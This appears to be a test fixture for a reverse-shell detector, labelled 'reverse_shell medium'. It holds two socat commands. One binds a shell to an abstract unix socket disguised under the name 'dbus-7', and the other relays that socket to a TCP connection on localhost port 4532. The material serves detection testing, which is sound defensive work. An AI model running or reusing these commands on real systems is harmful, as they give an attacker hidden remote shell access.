# about: a shell has an abstract unix socket as its streams; a stranger copies between that and the connection
# expect: reverse_shell medium
# needs: python3 socat
proven 4532
setsid timeout 7 socat ABSTRACT-LISTEN:dbus-7 EXEC:sh,nofork &
sleep 0.5
setsid timeout 6 socat TCP:127.0.0.1:4532 ABSTRACT-CONNECT:dbus-7 || true
answered
